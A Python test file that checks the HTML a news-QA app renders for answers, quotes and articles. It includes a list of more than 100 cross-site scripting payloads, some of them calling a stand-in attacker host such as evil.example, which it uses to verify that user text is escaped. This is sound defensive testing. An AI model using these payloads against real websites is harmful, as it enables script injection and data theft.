"""What the page shows of answers and articles: golden HTML, marks, and that nothing people wrote becomes markup."""

from dataclasses import replace
from html.parser import HTMLParser

import pytest

from corpus.article import Article
from index.scope import EVERYTHING, Scope
from qa.answer import Answer, Citation, Dated, Decline, Filter, Otherwise, Says, Searched, Why
from ui import bar, escape, filters, paper, render, shelf
from ui.filters import Filters
from ui.paper import Shown
from ui.steps import Taken

TEXT = "Russia and Hamas\n\nBogdanov received them on 26 October and 19 January. Then he left.\n\nWhat came of it"


def citation(n: int, quote: str, *words: str, text: str = TEXT) -> Citation:
    start = text.index(quote)
    marks = tuple((text.index(word, start), text.index(word, start) + len(word)) for word in words)
    facts = ("Russia and Hamas", "M. H. Sweidan", "The Cradle", "2024-02-13", None)
    return Citation(n, "a1", *facts, start, start + len(quote), quote, marks)


BOGDANOV = citation(1, "Bogdanov received them on 26 October and 19 January.", "26 October", "19 January")
ANSWER = Answer(
    *("When?", "When?", True, "26 October and 19 January", 0.934, (BOGDANOV,), (), 84),
    searched=Searched(14, "2024-02-13", 7),
)
STEPS = (Taken("searching", 20), Taken("reading", 60), Taken("verifying", 4))
ARTICLE = Article(
    "a1", "Russia and Hamas", TEXT, "M. H. Sweidan", "The Cradle", "2024-02-13", "https://thecradle.co/a?b=1&c=2"
)


# ── golden HTML ──────────────────────────────────────────────────────────────────────────────────────────────────────


def test_an_answer_shows_its_words_its_numbered_quote_and_its_source() -> None:
    assert render.answer(ANSWER, turn=3, steps=STEPS) == (
        '<div class="answer"><div class="words" dir="auto">26 October and 19 January'
        '<button type="button" class="number" name="cite" value="3:1">'
        '<span class="unseen">Show quote 1 in the article </span>1</button></div>'
        '<ol class="sources"><li class="source" value="1"><blockquote dir="auto">Bogdanov received them on '
        '<mark class="said">26 October</mark> and <mark class="said">19 January</mark>.</blockquote>'
        '<p class="from"><cite><bdi>Russia and Hamas</bdi></cite><span class="dot"> · </span><bdi>M. H. Sweidan</bdi>'
        '<span class="dot"> · </span><bdi>The Cradle</bdi><span class="dot"> · </span>'
        '<time datetime="2024-02-13">13 February 2024</time></p>'
        '<button type="button" class="show" name="cite" value="3:1">Show in the article</button></li></ol>'
        '<p class="fine checked">1 quote, found word for word</p><p class="fine facts">Confidence 93 % · '
        'from 14 articles, newest <time datetime="2024-02-13">13 Feb 2024</time></p>'
        '<details class="fine taken"><summary>Searched 14 articles, '
        "read 7 passages, checked 1 quote · 84 ms</summary><ol><li>Searching: 20 ms</li><li>Reading: 60 ms</li>"
        "<li>Checking the quotes: 4 ms</li></ol></details>"
        '<div class="acts"><button type="button" class="act" name="retry" value="3">Ask again</button>'
        '<button type="button" class="act" name="edit" value="3">Edit the question</button>'
        '<button type="button" class="act" name="undo" value="3">Undo</button></div></div>'
    )


@pytest.mark.parametrize(
    ("quotes", "line"),
    [(1, "1 quote, found"), (2, "2 quotes, both found"), (3, "3 quotes, all found"), (1200, "1,200 quotes, all found")],
)
def test_an_answer_tells_that_its_quotes_were_found_word_for_word(quotes: int, line: str) -> None:
    shown = render.answer(replace(ANSWER, citations=(BOGDANOV,) * quotes), 1)
    assert f'<p class="fine checked">{line} word for word</p>' in shown


def test_an_answer_without_a_quote_says_where_it_comes_from() -> None:
    shown = render.answer(replace(ANSWER, citations=()), 1)
    assert '<p class="fine checked">This was given with the article when it was added;' in shown
    assert "word for word" not in shown


@pytest.mark.parametrize(
    ("searched", "line"),
    [
        (Searched(1, "2024-02-13", 7), 'from 1 article, of <time datetime="2024-02-13">13 Feb 2024</time></p>'),
        (Searched(1, None, 7), "from 1 article</p>"),
        (Searched(3000, None, 7), "from 3,000 articles</p>"),
        (Searched(14, None, 7, 14, 2), "from 14 articles · 2 articles not looked through for meetings yet</p>"),
    ],
)
def test_an_answer_tells_of_which_articles_it_is(searched: Searched, line: str) -> None:
    assert f"Confidence 93 % · {line}" in render.answer(replace(ANSWER, searched=searched), 1)


def test_an_article_shows_its_facts_and_its_text_with_the_quote_marked() -> None:
    assert paper.article(ARTICLE, Shown(3, (BOGDANOV,), 1)) == (
        '<article class="paper" data-article="a1" data-turn="3" data-focus="1">'
        '<button type="button" class="back" name="back">Back to the answer</button>'
        '<header><h2 dir="auto">Russia and Hamas</h2><p class="byline">By <bdi>M. H. Sweidan</bdi>'
        ' <span>·</span> <bdi>The Cradle</bdi> <span>·</span> <time datetime="2024-02-13">13 February 2024</time>'
        ' <span>·</span> <a href="https://thecradle.co/a?b=1&amp;c=2" target="_blank"'
        ' rel="noopener noreferrer nofollow"><bdi>thecradle.co</bdi></a></p></header>'
        '<div class="text" dir="auto"><p dir="auto"><mark class="quote current" data-cites="1" data-label="1">'
        'Bogdanov received them on <mark class="said">26 October</mark> and <mark class="said">19 January</mark>.'
        '</mark> Then he left.</p><h3 dir="auto">What came of it</h3></div></article>'
    )


def test_a_quote_shows_its_page_and_how_many_other_articles_hold_it() -> None:
    whence = render.answer(replace(ANSWER, citations=(replace(BOGDANOV, page=3, also=("b", "c")),)), 1)
    assert (
        '<p class="from"><cite><bdi>Russia and Hamas</bdi></cite>, p. 3<span class="dot"> · </span>'
        '<bdi>M. H. Sweidan</bdi><span class="dot"> · </span>'
        '<bdi>The Cradle</bdi><span class="dot"> · </span><time datetime="2024-02-13">13 February 2024</time>'
        '<span class="dot"> · </span>also in 2 other articles</p>'
    ) in whence
    one = render.answer(replace(ANSWER, citations=(replace(BOGDANOV, also=("b",)),)), 1)
    assert "also in 1 other article</p>" in one
    assert "p. " not in one.replace("<p ", "")


BY_BERG = replace(BOGDANOV, said_by=(0, 4), speaker="Jonas <Berg>\u202e")


def test_who_says_it_stands_quietly_behind_the_answer() -> None:
    shown = render.answer(replace(ANSWER, citations=(BY_BERG,)), 3)
    assert '1</button> <span class="said-by">— according to <bdi>Jonas &lt;Berg&gt;</bdi></span></div>' in shown
    assert shown.count("according to") == 1
    assert "according to <bdi>the ministry</bdi>" in render.answer(
        replace(ANSWER, citations=(replace(BY_BERG, speaker="The\nministry"),)), 3
    )
    for asked in ("When, says Jonas Berg, was it?", "When was Berg’s visit?"):
        assert "according" not in render.answer(replace(ANSWER, understood=asked, citations=(BY_BERG,)), 3)


def test_of_several_quotes_each_tells_its_own_speaker() -> None:
    falk = replace(citation(2, "Then he left.", "he left"), said_by=(0, 4), speaker="Ida Falk")
    bare = replace(BOGDANOV, n=3)
    shown = render.answer(replace(ANSWER, answer="26 October; he left", citations=(BY_BERG, falk, bare)), 1)
    words, *quotes = shown.split('<li class="source"')
    assert "according" not in words
    assert [quote.split('<p class="from">')[1].split("<cite>")[0] for quote in quotes] == [
        'according to <bdi>Jonas &lt;Berg&gt;</bdi><span class="dot"> · </span>',
        'according to <bdi>Ida Falk</bdi><span class="dot"> · </span>',
        "",
    ]


DATED = replace(
    ANSWER,
    dates=(
        Dated(1, "26 October", "2023-10-26", "2023-10-26", True),
        Dated(1, "19 January", "2024-01-19", "2024-01-19", True),
    ),
)
OTHER = replace(citation(2, "Then he left.", "he left"), article_id="b<1", source="Post & <b>Co</b>")


def test_what_the_times_of_an_answer_mean_stands_under_it_and_in_no_quote() -> None:
    shown = render.answer(DATED, 1)
    meant = "that is 26 October 2023 and 19 January 2024 (from the article’s date, 13 February 2024)"
    assert f'</div><p class="fine dated">{meant}</p><ol class="sources">' in shown
    assert shown.count("that is") == 1
    undated = replace(BOGDANOV, published=None)
    open_dates = (Dated(1, "last <week>", None, None, True),)
    shown = render.answer(replace(ANSWER, citations=(undated,), dates=open_dates), 1)
    assert "the article has no date, so which days “last &lt;week&gt;” means cannot be told</p>" in shown
    assert "dated" not in render.answer(ANSWER, 1)


def test_of_several_quotes_each_tells_its_own_days() -> None:
    second = replace(OTHER, n=2, source="The Cradle")
    dates = (*DATED.dates, Dated(2, "he left", "2024-02-05", "2024-02-11", True))
    words, first, last = render.answer(replace(DATED, citations=(BOGDANOV, second), dates=dates), 1).split("<li class")
    assert "dated" not in words
    assert "that is 26 October 2023 and 19 January 2024" in first
    assert "</blockquote>" + '<p class="fine dated">that is 5–11 February 2024 (' in last


def test_what_says_otherwise_stands_under_the_answer_with_its_quote_and_number() -> None:
    shown = render.answer(replace(ANSWER, disagreement=(Otherwise("<he> left", Says.EARLIER, OTHER),)), 3)
    assert (
        '</ol><div class="otherwise"><p>An earlier report (Post &amp; &lt;b&gt;Co&lt;/b&gt;, 13 February 2024) said: '
        '<bdi class="other-words">&lt;he&gt; left</bdi><button type="button" class="number" name="cite" value="3:2">'
    ) in shown
    assert '<li class="source" value="2"><blockquote dir="auto">Then <mark class="said">he left</mark>.' in shown
    assert '<p class="fine checked">2 quotes, both found word for word</p>' in shown
    same = Otherwise("he left", Says.OTHER, replace(OTHER, article_id=BOGDANOV.article_id))
    assert "<p>Another passage says: <bdi" in render.answer(replace(ANSWER, disagreement=(same,)), 3)


def test_a_screen_reader_is_told_what_says_otherwise() -> None:
    heard = render.heard(replace(ANSWER, disagreement=(Otherwise("he left", Says.LATER, OTHER),)))
    assert heard == (
        "Answer: 26 October and 19 January. A later report (Post &amp; &lt;b&gt;Co&lt;/b&gt;, 13 February 2024) says: "
        "he left. 2 quotes, both found word for word."
    )


def test_an_article_names_its_newer_version_and_the_others_that_tell_its_story() -> None:
    copy = Article("c<1", "T & Co", "x", source="Post", published="2024-02-14")
    shown = paper.article(ARTICLE, newer="n<1", copies=[copy, Article("d", "D", "x")])
    assert shown.startswith(
        '<article class="paper" data-article="a1" data-turn="0" data-focus="">'
        '<p class="superseded" role="note">A newer version of this article is in the library. '
        '<button type="button" name="read" value="n&lt;1">Open it</button></p><header>'
    )
    assert (
        '</header><details class="copies"><summary>2 other articles tell the same story</summary><ul>'
        '<li><button type="button" name="read" value="c&lt;1"><bdi>T &amp; Co</bdi></button> <span>·</span> '
        '<bdi>Post</bdi> <span>·</span> <time datetime="2024-02-14">14 February 2024</time></li>'
        '<li><button type="button" name="read" value="d"><bdi>D</bdi></button></li></ul></details>'
    ) in shown


def test_of_very_many_other_articles_some_are_named() -> None:
    shown = paper.article(ARTICLE, copies=[Article(str(n), f"T{n}", "x") for n in range(35)])
    assert shown.count('name="read"') == 30
    assert "<summary>35 other articles tell the same story</summary>" in shown
    assert "<li>and 5 more</li>" in shown
    assert "<summary>1 other article tells the same story</summary>" in paper.article(ARTICLE, copies=[ARTICLE])


def declined(why: Why, confidence: float = 0.0, missing: tuple[str, ...] = (), threshold: float = 0.0) -> str:
    closest, decline = (citation(1, "Then he left."),), Decline(why, missing, threshold)
    return render.answer(Answer("Why?", "Why?", False, "", confidence, (), closest, 5, decline), 2)


def test_a_decline_says_so_and_shows_the_closest_passages() -> None:
    shown = declined(Why.NOT_SAID, 0.1)
    assert '<p class="words declined">These articles do not say.</p>' in shown
    assert '<p class="fine why">The closest passages do not say so.</p>' in shown
    assert '<blockquote dir="auto">Then he left.</blockquote>' in shown
    assert 'value="2:1">Show in the article' in shown
    assert "onfidence" not in shown
    assert "word for word" not in shown


@pytest.mark.parametrize(
    ("shown", "reason"),
    [
        (
            declined(Why.UNSURE, 0.314, threshold=0.5),
            "too uncertain to be given: its confidence is 31 %, and answers are given from 50 %.",
        ),
        (
            declined(Why.NOTHING_ABOUT, missing=("Oslo", "<Riga>")),
            "found about “<bdi>Oslo</bdi>” and “<bdi>&lt;Riga&gt;</bdi>”: the closest passages do not name them.",
        ),
        (declined(Why.NOTHING_ABOUT, missing=("Oslo",)), "“<bdi>Oslo</bdi>”: the closest passages do not name it."),
        (declined(Why.NOTHING_ABOUT), "Nothing was found about it: the closest passages have none of the question’s"),
        (declined(Why.UNPROVED), "its quote could not be found again word for word, so it is not shown."),
    ],
)
def test_a_decline_tells_why(shown: str, reason: str) -> None:
    assert reason in shown.split('<p class="fine why">')[1].split("</p>")[0]


def test_a_decline_of_another_version_without_passages_is_one_sentence() -> None:
    shown = render.answer(Answer("Why?", "Why?", False, "", 0.0), 1)
    decline = '<div class="answer"><p class="words declined">These articles do not say.</p>'
    assert shown == f"{decline}{render.actions(1)}</div>"


def test_a_rewritten_question_is_shown_under_the_own() -> None:
    assert render.question("And there?", "Who met in <Paris>?") == (
        '<div class="asked" dir="auto">And there?</div>'
        '<p class="fine understood">Understood as: <bdi>Who met in &lt;Paris&gt;?</bdi></p>'
    )


def test_filters_are_chips_that_are_taken_off_and_those_that_were_relaxed_are_struck_out() -> None:
    outlet = Filter("source", "A & B", "according to A & B")
    assert render.filters((outlet, Filter("published", "May 2024", "in May", relaxed=True)), 3) == (
        '<ul class="fine asked-of"><li><button type="button" class="chip" name="widen" value="3:0" '
        'title="Ask again without this filter">outlet: <bdi>A &amp; B</bdi>'
        '<span class="unseen"> (Ask again without this filter)</span> ✕</button></li>'
        "<li><s>published: <bdi>May 2024</bdi></s></li></ul>"
    )
    assert render.filters((), 3) == ""


def test_an_answer_says_that_its_filters_were_left_out() -> None:
    filters = (Filter("source", "A & B", "x", relaxed=True), Filter("published", "May 2024", "y", relaxed=True))
    said = "Nothing in <bdi>A &amp; B</bdi>, <bdi>May 2024</bdi> says so: this was asked without that."
    assert said in render.answer(replace(ANSWER, filters=filters), 1)
    assert "without that" not in render.answer(replace(ANSWER, filters=(Filter("source", "A", "x"),)), 1)


def test_the_steps_that_are_over_and_the_one_that_is_being_done() -> None:
    assert render.under_way("reading") == (
        '<ol class="waiting steps"><li class="over">Searching</li><li class="now">Reading</li>'
        '<li class="next">Checking quotes</li></ol>'
    )
    for first in (None, "searching", "another"):
        assert render.under_way(first).startswith('<ol class="waiting steps"><li class="now">Searching</li>')


def test_what_a_screen_reader_says_of_an_outcome() -> None:
    assert render.heard(ANSWER) == "Answer: 26 October and 19 January. 1 quote, found word for word."
    assert render.heard(replace(ANSWER, answer="a\n<b>")).startswith("Answer: a &lt;b&gt;. 1 quote")
    unsaid = Answer("q", "q", False, "", 0.0, decline=Decline(Why.NOT_SAID))
    assert render.heard(unsaid) == "These articles do not say. The closest passages do not say so."
    assert render.heard("It <failed>.") == "It &lt;failed&gt;."
    assert render.heard(None) == "Looking for the answer…"


def test_the_first_screen() -> None:
    promise = '<p class="promise">Ask in your own words. Every answer shows the very sentence that it comes from.</p>'
    assert render.first_screen(["Who is <X>?"]) == (
        f'<div class="first">{promise}<p class="fine">Or begin with one of these:</p><ul class="starters"><li>'
        '<button type="button" name="suggest" value="Who is &lt;X&gt;?" dir="auto">Who is &lt;X&gt;?</button>'
        "</li></ul></div>"
    )
    assert render.first_screen(()) == f'<div class="first">{promise}</div>'
    assert render.first_screen(None).count("<li></li>") == 4
    assert 'name="goto" value="articles">Add articles</button>' in render.no_articles()


def test_every_key_is_told() -> None:
    assert render.keys().count("<dt>") == 7


def test_a_number_stands_after_the_words_that_its_quote_shows() -> None:
    two = citation(2, "Then he left.", "he left")
    words = render.answer(Answer("?", "?", True, "26 October; he left soon", 0.5, (two, BOGDANOV)), 1)
    assert (
        words.index("26 October") < words.index('value="1:1"') < words.index("; he left") < words.index('value="1:2"')
    )
    assert words.split('<ol class="sources">')[0].endswith("</button> soon</div>")


def test_of_a_list_with_a_quote_a_line_each_number_ends_its_line() -> None:
    cited = (BOGDANOV, replace(BOGDANOV, n=2))
    words = render.answer(Answer("?", "?", True, "26 October, he\n19 January, he", 0.5, cited), 1).split("</ul>")[0]
    lines = words.removeprefix('<div class="answer"><ul class="words list">').split("</li>")[:-1]
    assert [line.split("<button")[0] for line in lines] == [
        '<li dir="auto">26 October, he',
        '<li dir="auto">19 January, he',
    ]
    assert [('value="1:1"' in line, 'value="1:2"' in line) for line in lines] == [(True, False), (False, True)]


def test_a_number_does_not_cut_a_word() -> None:
    said = Answer("?", "?", True, "26 Octobers", 0.5, (citation(1, "Then he left.", "he"),))
    assert "26 Octobers<button" in render.answer(said, 1)


def test_a_long_closest_passage_is_cut_with_an_ellipsis() -> None:
    text = "word " * 200
    long = citation(1, text.strip(), text=text)
    shown = render.answer(Answer("?", "?", False, "", 0.0, (), (long,)), 1)
    assert text[: render.CLOSEST_SHOWN] + "…</blockquote>" in shown


# ── marks ────────────────────────────────────────────────────────────────────────────────────────────────────────────


@pytest.mark.parametrize(
    ("spans", "expected"),
    [
        ([], "a&lt;b😀c"),
        ([(1, 2)], 'a<mark class="said">&lt;</mark>b😀c'),
        ([(3, 4)], 'a&lt;b<mark class="said">😀</mark>c'),
        ([(0, 2), (1, 3)], '<mark class="said">a&lt;b</mark>😀c'),
        ([(0, 1), (1, 2)], '<mark class="said">a&lt;</mark>b😀c'),
        ([(3, 5), (0, 1)], '<mark class="said">a</mark>&lt;b<mark class="said">😀c</mark>'),
        ([(2, 2), (4, 99)], 'a&lt;b😀<mark class="said">c</mark>'),
        ([(-5, 1)], '<mark class="said">a</mark>&lt;b😀c'),
    ],
)
def test_marked_words(spans: list[tuple[int, int]], expected: str) -> None:
    assert escape.marked("a<b😀c", 0, 5, spans) == expected


def at(n: int, start: int, end: int, *marks: tuple[int, int]) -> Citation:
    return Citation(n, "a1", "T", None, None, None, None, start, end, "", marks)


def highlighted(text: str, *citations: Citation, block: tuple[int, int] | None = None, focus: int | None = None) -> str:
    words = [mark for each in citations for mark in each.marks]
    return paper.highlighted(text, block or (0, len(text)), paper.highlights(citations), words, focus)


def test_overlapping_quotes_become_one_mark_with_both_numbers() -> None:
    assert highlighted("abcdef", at(2, 2, 5), at(1, 0, 3)) == (
        '<mark class="quote" data-cites="1 2" data-label="1,2">abcde</mark>f'
    )


def test_touching_quotes_stay_two() -> None:
    assert highlighted("abcd", at(1, 0, 2), at(2, 2, 4), focus=2) == (
        '<mark class="quote" data-cites="1" data-label="1">ab</mark>'
        '<mark class="quote current" data-cites="2" data-label="2">cd</mark>'
    )


def test_a_quote_over_two_paragraphs_is_marked_in_both_and_numbered_once() -> None:
    text = "One two.\n\nThree four."
    read = Article("a1", "T", text)
    body = paper.article(read, Shown(1, (at(1, 4, 15, (10, 15)),), 1))
    assert '<p dir="auto">One <mark class="quote current" data-cites="1" data-label="">two.</mark></p>' in body
    assert (
        '<p dir="auto"><mark class="quote current" data-cites="1" data-label="1">'
        '<mark class="said">Three</mark></mark> four.</p>'
    ) in body


def test_words_outside_the_quote_are_not_marked() -> None:
    assert highlighted("abcd", at(1, 0, 2, (1, 4))) == (
        '<mark class="quote" data-cites="1" data-label="1">a<mark class="said">b</mark></mark>cd'
    )


def test_marks_fit_characters_outside_the_basic_plane() -> None:
    text = "😀 𝔘𝔫 met 👩‍👩‍👧 there."
    start = text.index("met")
    assert highlighted(text, at(1, 0, len(text), (start, start + 3))).count('<mark class="said">met</mark>') == 1


# ── paragraphs, headings, long texts ─────────────────────────────────────────────────────────────────────────────────


def test_blocks_are_paragraphs_between_blank_lines() -> None:
    text = "One.\n\nTwo\nlines.\n \nThree."
    assert [text[slice(*block)] for block in paper.blocks(text, 0, len(text))] == ["One.", "Two", "lines.", "Three."]


def test_lines_wrapped_at_a_width_are_one_paragraph() -> None:
    text = ("x" * 70 + "\n") * 3 + "end."
    assert paper.blocks(text, 0, len(text)) == [(0, len(text))]


@pytest.mark.parametrize(
    ("text", "heading"),
    [
        ("The Russian position on the war", True),
        ("2024", True),
        ("He said:", False),
        ("It ends.", False),
        ("and so on", False),
        ("X" * 101, False),
    ],
)
def test_headings(text: str, heading: bool) -> None:
    assert paper.is_heading(text) is heading


def test_the_title_is_not_shown_twice_unless_it_is_quoted() -> None:
    assert paper.article(ARTICLE).count("Russia and Hamas") == 1
    assert paper.article(ARTICLE, Shown(1, (citation(1, "Russia and Hamas"),), 1)).count("Russia and Hamas") == 2


def test_of_a_very_long_article_the_part_around_the_quote_is_shown() -> None:
    text = "A sentence. " * 100_000
    shown = Shown(1, (at(7, 900_000, 900_011),), 7)
    start, end = paper.window(len(text), shown)
    assert (start, end) == (800_000, 1_000_000)
    body = paper.article(Article("a1", "T", text), shown)
    assert '<mark class="quote current" data-cites="7" data-label="7">A sentence.</mark>' in body
    assert "… 800,000 more characters …" in body
    assert "… 200,000 more characters …" in body


# ── names, dates, addresses ──────────────────────────────────────────────────────────────────────────────────────────


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("a\u202egnp.exe", "<bdi>a gnp.exe</bdi>"),
        ("two\nlines\ttab\0nul", "<bdi>two lines tab nul</bdi>"),
        ("\U000e0041tagged", "<bdi>tagged</bdi>"),
        ("x" * 300, f"<bdi>{'x' * 79}…</bdi>"),
        ("../../<img onerror>", "<bdi>../../&lt;img onerror&gt;</bdi>"),
        ("%2e%2e", "<bdi>%2e%2e</bdi>"),
        ("lone \ud800", "<bdi>lone ?</bdi>"),
    ],
)
def test_names(written: str, shown: str) -> None:
    assert escape.name(written) == shown


def test_dates() -> None:
    assert escape.day("2024-02-13") == '<time datetime="2024-02-13">13 February 2024</time>'
    assert escape.day("<b>soon") == "<bdi>&lt;b&gt;soon</bdi>"


@pytest.mark.parametrize(
    "url",
    [
        None,
        "",
        "javascript:alert(1)",
        "JAVASCRIPT:alert(1)",
        "java\nscript:alert(1)",
        " https://a.b",
        "https://",
        "data:text/html,x",
        "vbscript:x",
        "file:///etc/passwd",
        "//evil.example",
        "https:\\\\evil",
        "http://a b/",
        "http://[",
        "ftp://a.b/",
        "https://a.b/\x00",
    ],
)
def test_only_web_addresses_become_links(url: str | None) -> None:
    assert escape.web_link(url) == ""


# ── lists and lines ──────────────────────────────────────────────────────────────────────────────────────────────────


def test_result_lines() -> None:
    assert shelf.added("T & Co", 14, already=False) == "Added “<bdi>T &amp; Co</bdi>”, 14 passages."
    assert shelf.added("T", 1, already=False) == "Added “<bdi>T</bdi>”, 1 passage."
    assert shelf.added("T", 1, already=True) == "“<bdi>T</bdi>” is already there."
    assert shelf.added("T", 1, False, superseded=2, copies=1) == (
        "Added “<bdi>T</bdi>”, 1 passage; it replaces an earlier version; the same story as 1 other."
    )
    assert shelf.failed("No <b>.") == '<span class="bad">No &lt;b&gt;.</span>'
    assert shelf.results([], "") == ""
    assert shelf.results(["a"], "2 < 3") == (
        '<div class="results"><p class="summary">2 &lt; 3</p><ul><li dir="auto">a</li></ul></div>'
    )


def test_status() -> None:
    assert "Loading models…" in render.status(False, 3)
    assert "Ready · 1,200 articles" in render.status(True, 1200)
    assert "Ready · 1 article<" in render.status(True, 1)


# ── what people wrote never becomes markup ───────────────────────────────────────────────────────────────────────────

HANDLERS = [
    "onerror",
    "onload",
    "onclick",
    "onmouseover",
    "onfocus",
    "onblur",
    "ontoggle",
    "onanimationstart",
    "onpointerenter",
    "onwheel",
    "oncut",
    "onstart",
    "onfinish",
]
TAGS = [
    "img",
    "svg",
    "body",
    "iframe",
    "input",
    "video",
    "audio",
    "details",
    "marquee",
    "object",
    "math",
    "form",
    "button",
    "select",
    "textarea",
    "style",
    "link",
    "base",
]
PAYLOADS = [
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script\x00>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    "` onmouseover=`alert(1)",
    '" autofocus onfocus=alert(1) x="',
    "</title><svg onload=alert(1)>",
    "</textarea><svg onload=alert(1)>",
    "</style><svg onload=alert(1)>",
    "</mark></p></article><img src=x onerror=alert(1)>",
    "</bdi></cite><img src=x onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "<?xml version=1?><img src=x onerror=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    '<a href="java&#x09;script:alert(1)">x</a>',
    "<a href=data:text/html,<script>alert(1)</script>>x</a>",
    "[x](javascript:alert(1))",
    "![x](http://evil.example/x.png)",
    "![x][1] [1]: http://evil.example/x.png",
    "<http://evil.example>",
    "http://evil.example/?q=secret",
    "![x](/gradio_api/file=http://evil.example/x)",
    "$$\\href{javascript:alert(1)}{x}$$",
    "$\\includegraphics{http://evil.example/x}$",
    "```html <img src=x onerror=alert(1)> ```",
    "`<img src=x onerror=alert(1)>`",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "#{alert(1)}",
    "<%= alert(1) %>",
    "&lt;img src=x onerror=alert(1)&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "&#x3c;script&#x3e;alert(1)",
    "\\u003cimg src=x onerror=alert(1)\\u003e",
    "%3Cimg%20src=x%20onerror=alert(1)%3E",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\ufeff<img src=x onerror=alert(1)>",
    "\u202e<img src=x onerror=alert(1)>",
    "\uff1cimg src=x onerror=alert(1)\uff1e",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<IMG SRC=&#106;avascript:alert(1)>",
    "<div style=background:url(http://evil.example/x)>",
    "<style>@import url(http://evil.example/x.css)</style>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<meta http-equiv=refresh content=0;url=http://evil.example>",
    "<base href=http://evil.example/>",
    "<button name=remove value=a1>x</button>",
    "<button name=cite value=1:1>x</button>",
    "<mark class=said>forged</mark>",
    "<template><img src=x onerror=alert(1)></template>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
    *(f"<img src=x {handler}=alert(1)>" for handler in HANDLERS),
    *(
        f"<{tag} {handler}=alert(1) href=javascript:alert(1) src=//evil.example>"
        for tag in TAGS
        for handler in HANDLERS[:2]
    ),
]


class Skeleton(HTMLParser):
    """The tags of some HTML with their attributes' names, as a browser would see them."""

    def __init__(self, markup: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, tuple[str, ...]]] = []
        self.feed(markup)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, tuple(name for name, _ in attrs)))

    def handle_endtag(self, tag: str) -> None:
        self.tags.append(("/" + tag, ()))

    def handle_comment(self, data: str) -> None:
        self.tags.append(("!", ()))

    def handle_decl(self, decl: str) -> None:
        self.handle_comment(decl)

    def unknown_decl(self, data: str) -> None:
        self.handle_comment(data)

    def handle_pi(self, data: str) -> None:
        self.handle_comment(data)


class Entry:
    def __init__(self, hostile: str) -> None:
        self.id = self.title = self.author = self.source = self.published = self.added = hostile
        self.passages, self.copies, self.versions = 3, 4, 5


class Outlets:
    """A desk over a library with one outlet."""

    def __init__(self, outlet: str) -> None:
        self.outlet = outlet

    def outlets(self) -> list[tuple[str, int]]:
        return [(self.outlet, 1)]

    def extent(self, scope: Scope = EVERYTHING) -> tuple[int, str | None]:
        return (1 if scope == EVERYTHING else 0), None


def everything(hostile: str) -> str:
    """All that the page shows, with `hostile` wherever people can write."""
    text = f"First x {hostile} y. Second."
    quote = f"First x {hostile} y."
    facts = {"title": hostile, "author": hostile, "source": hostile, "published": hostile}
    cited = replace(citation(1, quote, hostile, text=text), **facts)  # type: ignore[arg-type]
    read = Article(hostile, hostile, text, hostile, hostile, hostile, None, hostile)
    said = Answer(hostile, f"u {hostile}", True, hostile, 0.5, (cited,))
    decline = Decline(Why.NOTHING_ABOUT, (hostile,))
    declined = Answer(hostile, f"u {hostile}", False, "", 0.5, (), (cited,), 1, decline, Searched(2, hostile, 1))
    return "".join(
        [
            render.question(hostile),
            render.notice(hostile),
            render.problem(hostile),
            render.answer(said, 1),
            render.answer(declined, 2),
            paper.article(read, Shown(1, (cited,), 1), newer=hostile, copies=[read]),
            bar.progress(1, 2, 3, hostile),
            paper.gone(hostile),
            render.question(hostile, hostile, editing=True),
            render.filters([Filter(hostile, hostile, hostile), Filter("source", hostile, "x", relaxed=True)], 1),
            render.answer(replace(said, filters=(Filter("source", hostile, "x", relaxed=True),)), 1),
            render.follow_ups([hostile]),
            render.first_screen([hostile]),
            render.heard(said),
            shelf.table([Entry(hostile)], "title", False, {hostile}),
            shelf.results([shelf.added(hostile, 2, False), shelf.failed(hostile)], hostile),
            shelf.results([shelf.removed([hostile], 1), shelf.restored([hostile]), shelf.changed(hostile)]),
            shelf.amending(hostile),
            filters.bar(Outlets(hostile), Filters((hostile,), chosen={hostile}, only_chosen=True)),  # type: ignore[arg-type]
            filters.panel(Outlets(hostile), Filters((hostile,), is_open=True)),  # type: ignore[arg-type]
        ]
    )


HARMLESS = everything("harmless")


def test_there_are_enough_payloads() -> None:
    assert len(set(PAYLOADS)) >= 100


@pytest.mark.parametrize("payload", PAYLOADS)
def test_hostile_text_brings_no_markup(payload: str) -> None:
    shown = everything(payload)
    assert shown.count("<") == HARMLESS.count("<")
    assert Skeleton(shown).tags == Skeleton(HARMLESS).tags


@pytest.mark.parametrize("payload", PAYLOADS)
def test_hostile_text_is_shown_as_it_is(payload: str) -> None:
    class Words(HTMLParser):
        said = ""

        def handle_data(self, data: str) -> None:
            self.said += data

    words = Words()
    words.feed(render.problem(payload))
    words.close()
    assert words.said == payload.replace("\0", "\ufffd")


def test_hostile_addresses_are_never_linked() -> None:
    linked = [payload for payload in PAYLOADS if escape.web_link(payload)]
    assert linked == ["http://evil.example/?q=secret"]


def test_nothing_refers_to_another_place() -> None:
    shown = "".join(map(everything, PAYLOADS))
    tags = Skeleton(shown).tags
    assert {name for _, names in tags for name in names}.isdisjoint(
        {"src", "srcset", "style", "href", "action", "poster"}
    )
